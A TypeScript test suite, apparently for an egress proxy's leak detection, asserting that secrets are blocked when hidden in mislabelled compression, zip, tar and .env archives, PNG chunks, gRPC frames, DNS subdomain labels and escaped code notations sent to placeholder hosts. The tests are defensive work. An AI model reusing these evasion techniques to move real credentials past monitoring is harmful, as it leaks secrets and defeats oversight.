// Exfiltration by odd declarations, containers, labels and notations: what our tables of places and encodings do not hold.

import { brotliCompressSync, crc32, deflateRawSync, deflateSync, gzipSync, zstdCompressSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { openHost, request, send } from './raw-client.ts';
import { type Rig, startRig } from './rig.ts';
import { chars, TOKENS } from './tokens.ts';

const known = chars('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789', 40);
/** Fit for a host name. */
const lowerKnown = chars('abcdefghijklmnopqrstuvwxyz0123456789', 36);
const token = TOKENS['github classic']?.() ?? '';

let rig: Rig;
beforeAll(async () => {
  rig = await startRig({
    spec: `version: 1
secrets:
  TOKEN: { env: HOSTILE_TOKEN }
  LOWER: { env: HOSTILE_LOWER }
egress:
  allow: [open.example, "*.wild.example"]
`,
    env: { HOSTILE_TOKEN: known, HOSTILE_LOWER: lowerKnown },
    hosts: ['open.example:443'],
  });
});
afterAll(async () => {
  expect(rig.stderr()).toBe('');
  await rig.stop();
});

async function expectContained(host: string, bytes: Buffer): Promise<void> {
  rig.arrived();
  const before = rig.records().length;
  const { blockedBy } = await send(rig, host, bytes);
  expect(rig.arrived()).toBe('');
  expect(blockedBy).not.toBe('');
  const records = rig.records().slice(before);
  expect(records).toHaveLength(1);
  // Before a name is looked up: that, too, would be a way out.
  expect(records[0]).toMatchObject({ verdict: 'block' });
  expect(['dlp', 'placeholder', 'protocol', 'policy']).toContain(records[0]?.stage);
}

const post = (body: Buffer | string, fields: readonly string[] = []): Buffer =>
  request('POST /data', 'open.example', fields, Buffer.from(body));

function zip(name: string, content: Buffer, isCompressed: boolean): Buffer {
  const data = isCompressed ? deflateRawSync(content) : content;
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(isCompressed ? 8 : 0, 8);
  local.writeUInt32LE(crc32(content), 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt16LE(name.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 10);
  return Buffer.concat([local, Buffer.from(name), data, central, Buffer.from(name), end]);
}

function pngText(text: string): Buffer {
  const chunk = (type: string, data: Buffer): Buffer => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const head = Buffer.alloc(4);
    head.writeUInt32BE(data.length);
    const sum = Buffer.alloc(4);
    sum.writeUInt32BE(crc32(body));
    return Buffer.concat([head, body, sum]);
  };
  const magic = Buffer.from('89504e470d0a1a0a', 'hex');
  return Buffer.concat([
    magic,
    chunk('zTXt', Buffer.concat([Buffer.from('note\0\0'), deflateSync(text)])),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function tar(name: string, content: string): Buffer {
  const head = Buffer.alloc(512);
  head.write(name, 0);
  head.write(`${content.length.toString(8).padStart(11, '0')}\0`, 124);
  head.write('ustar', 257);
  return Buffer.concat([
    head,
    Buffer.from(content.padEnd(Math.ceil(content.length / 512) * 512, '\0')),
    Buffer.alloc(1024),
  ]);
}

describe('content that is not what it is said to be', () => {
  const cases: Readonly<Record<string, (text: string) => Buffer>> = {
    'plain, declared gzip': (text) => post(`x ${text}`, ['Content-Encoding: gzip']),
    'plain, declared br': (text) => post(`x ${text}`, ['Content-Encoding: br']),
    'gzip, declared br': (text) => post(gzipSync(text), ['Content-Encoding: br']),
    'gzip, declared identity': (text) => post(gzipSync(`note: ${text}`), ['Content-Encoding: identity']),
    'br, declared gzip': (text) => post(brotliCompressSync(text), ['Content-Encoding: gzip']),
    'gzip twice, declared once': (text) => post(gzipSync(gzipSync(text)), ['Content-Encoding: gzip']),
    'gzip once, declared twice': (text) => post(gzipSync(text), ['Content-Encoding: gzip, gzip']),
    'gzip with plain text behind it': (text) =>
      post(Buffer.concat([gzipSync('ok'), Buffer.from(text)]), ['Content-Encoding: gzip']),
    'gzip with the text as file name': (text) => {
      const bytes = gzipSync('ok');
      bytes[3] = 8;
      return post(Buffer.concat([bytes.subarray(0, 10), Buffer.from(`${text}\0`), bytes.subarray(10)]), [
        'Content-Encoding: gzip',
      ]);
    },
    'gzip cut short': (text) => post(gzipSync(text).subarray(0, -9), ['Content-Encoding: gzip']),
    'deflate with text behind it': (text) =>
      post(Buffer.concat([deflateSync('ok'), Buffer.from(text)]), ['Content-Encoding: deflate']),
    'a zstd frame to skip': (text) => {
      const head = Buffer.alloc(8);
      head.writeUInt32LE(0x184d2a50);
      head.writeUInt32LE(text.length, 4);
      return post(Buffer.concat([head, Buffer.from(text), zstdCompressSync('ok')]), ['Content-Encoding: zstd']);
    },
    'two zstd frames': (text) =>
      post(Buffer.concat([zstdCompressSync('ok'), zstdCompressSync(text)]), ['Content-Encoding: zstd']),
    'an encoding nobody knows': (text) =>
      post(Buffer.from(Buffer.from(text).map((byte) => byte ^ 1)), ['Content-Encoding: xor']),
    compress: (text) => post(Buffer.from(text), ['Content-Encoding: compress']),
    'a list with an empty member': (text) => post(gzipSync(text), ['Content-Encoding: ,gzip,']),
    'a parameter': (text) => post(gzipSync(text), ['Content-Encoding: gzip;q=1']),
    'five encodings': (text) => {
      let bytes = Buffer.from(text);
      for (let i = 0; i < 5; i++) bytes = gzipSync(bytes);
      return post(bytes, ['Content-Encoding: gzip, gzip, gzip, gzip, gzip']);
    },
    'UTF-16 declared as JSON': (text) =>
      post(Buffer.from(JSON.stringify({ text }), 'utf16le').swap16(), [
        'Content-Type: application/json; charset=utf-16be',
      ]),
    'a trailing encoding field': (text) =>
      Buffer.from(
        `POST /data HTTP/1.1\r\nHost: open.example\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nhi\r\n0\r\nContent-Encoding: ${text}\r\n\r\n`,
      ),
  };
  test.each(Object.keys(cases))('%s', async (name) => {
    for (const text of [known, token]) await expectContained('open.example', cases[name]?.(text) ?? Buffer.alloc(0));
  });
});

describe('containers', () => {
  const cases: Readonly<Record<string, (text: string) => Buffer>> = {
    'a stored zip': (text) => post(zip('a.txt', Buffer.from(`key ${text}`), false)),
    'a deflated zip': (text) => post(zip('a.txt', Buffer.from(`key ${text}`), true)),
    'a name in a zip': (text) => post(zip(text, Buffer.from('x'), true)),
    'a tar': (text) => post(tar('.env', `KEY=${text}\n`)),
    'a tgz': (text) => post(gzipSync(tar('.env', `KEY=${text}\n`))),
    'a tgz in base64 in JSON, as npm publishes': (text) =>
      post(
        JSON.stringify({
          _attachments: { 'a.tgz': { data: gzipSync(tar('package/.env', `KEY=${text}\n`)).toString('base64') } },
        }),
      ),
    'a zip in base64 in JSON': (text) =>
      post(JSON.stringify({ f: zip('a.txt', Buffer.from(`key ${text}`), true).toString('base64') })),
    'a compressed text chunk of a PNG': (text) => post(pngText(text)),
    'a git object': (text) => post(deflateSync(`blob ${text.length + 4}\0KEY=${text}`)),
    'a protobuf': (text) =>
      post(Buffer.concat([Buffer.from([8, 1, 18, text.length]), Buffer.from(text), Buffer.from([24, 7])])),
    'a gRPC message': (text) =>
      post(Buffer.concat([Buffer.from([0, 0, 0, 0, text.length + 2, 10, text.length]), Buffer.from(text)]), [
        'Content-Type: application/grpc',
      ]),
    'a compressed gRPC message': (text) => {
      const data = gzipSync(Buffer.concat([Buffer.from([10, text.length]), Buffer.from(text)]));
      return post(Buffer.concat([Buffer.from([1, 0, 0, 0, data.length]), data]), [
        'Content-Type: application/grpc',
        'grpc-encoding: gzip',
      ]);
    },
    'a mail': (text) =>
      post(
        `From: a@example\r\nMIME-Version: 1.0\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nkey ${text.slice(0, 10)}=\r\n${text.slice(10, 30)}=\r\n${text.slice(30)}\r\n`,
      ),
    'an event stream': (text) => post(`event: x\ndata: {"t":"${text}"}\n\n`, ['Content-Type: text/event-stream']),
    'a message pack': (text) =>
      post(Buffer.concat([Buffer.from([0x81, 0xa1, 0x74, 0xd9, text.length]), Buffer.from(text)])),
    'a patch of JSON': (text) => post(JSON.stringify([{ op: 'add', path: `/a~1${text}`, value: 1 }])),
  };
  test.each(Object.keys(cases))('%s', async (name) => {
    for (const text of [known, token]) await expectContained('open.example', cases[name]?.(text) ?? Buffer.alloc(0));
  });
});

describe('labels of an allowed wildcard', () => {
  const base32 = (text: string): string => {
    let bits = '';
    for (const byte of Buffer.from(text)) bits += byte.toString(2).padStart(8, '0');
    return (bits.match(/.{1,5}/g) ?? [])
      .map((five) => 'abcdefghijklmnopqrstuvwxyz234567'[Number.parseInt(five.padEnd(5, '0'), 2)])
      .join('');
  };
  const cases: Readonly<Record<string, string>> = {
    'the secret itself': lowerKnown,
    'with something around it': `x-${lowerKnown}-y`,
    'in capitals': lowerKnown.toUpperCase(),
    'cut into labels': lowerKnown.replace(/(.{12})(?=.)/g, '$1.'),
    'cut into small labels': lowerKnown.replace(/(.{4})(?=.)/g, '$1.'),
    'with dashes': lowerKnown.replace(/(.{6})(?=.)/g, '$1-'),
    hex: (
      Buffer.from(lowerKnown)
        .toString('hex')
        .match(/.{1,60}/g) ?? []
    ).join('.'),
    base32: base32(lowerKnown),
    backwards: [...lowerKnown].reverse().join(''),
    'a mixed-case secret, folded': known.toLowerCase(),
  };
  test.each(Object.keys(cases))('%s', async (name) => {
    const host = `${cases[name]}.wild.example`;
    await expectContained(host, request('GET /', host));
  });
});

describe('notations', () => {
  const codes = (text: string): number[] => [...text].map((char) => char.charCodeAt(0));
  const cases: Readonly<Record<string, (text: string) => string>> = {
    'String.fromCharCode': (text) => `String.fromCharCode(${codes(text).join(', ')})`,
    'Python bytes': (text) => `bytes([${codes(text).join(', ')}])`,
    'JSON Buffer': (text) => JSON.stringify(Buffer.from(text)),
    'a C array': (text) =>
      `{ ${codes(text)
        .map((code) => `0x${code.toString(16)}`)
        .join(', ')} }`,
    'ES6 escapes': (text) =>
      codes(text)
        .map((code) => `\\u{${code.toString(16)}}`)
        .join(''),
    'JS escapes in JSON': (text) =>
      JSON.stringify({
        code: codes(text)
          .map((code) => `\\x${code.toString(16)}`)
          .join(''),
      }),
    'JSON escapes in JSON': (text) =>
      JSON.stringify({
        code: codes(text)
          .map((code) => `\\u00${code.toString(16)}`)
          .join(''),
      }),
    concatenation: (text) => `"${text.slice(0, 13)}" + "${text.slice(13, 26)}" + "${text.slice(26)}"`,
    'shell quotes': (text) => `${text.slice(0, 9)}''${text.slice(9, 20)}""${text.slice(20)}`,
    'URL in a URL': (text) =>
      `https://a.example/?u=${encodeURIComponent(`https://b.example/?u=${encodeURIComponent(`https://c.example/?t=${[...text].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('')}`)}`)}`,
    'base64 of base64url in a JWT-like text': (text) =>
      `eyJhbGciOiJub25lIn0.${Buffer.from(JSON.stringify({ t: text })).toString('base64url')}.`,
    'basic auth in text': (text) => `Authorization: Basic ${Buffer.from(`me:${text}`).toString('base64')}`,
    'a data URL with percent': (text) => `data:,${[...text].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('')}`,
  };
  test.each(Object.keys(cases))('%s', async (name) => {
    await expectContained('open.example', post(cases[name]?.(known) ?? '', ['Content-Type: text/plain']));
    // A format in pieces is not always one; a value that we know is.
    if (!['concatenation', 'shell quotes'].includes(name)) {
      await expectContained('open.example', post(cases[name]?.(token) ?? '', ['Content-Type: text/plain']));
    }
  });
});

test('a request in a packet per byte is the same request', async () => {
  rig.arrived();
  const client = await openHost(rig, 'open.example');
  client.socket.setNoDelay(true);
  for (const byte of post(`x ${known}`)) client.send(Buffer.from([byte]));
  expect((await client.answer()).status).toBe(403);
  client.close();
  expect(rig.arrived()).toBe('');
});
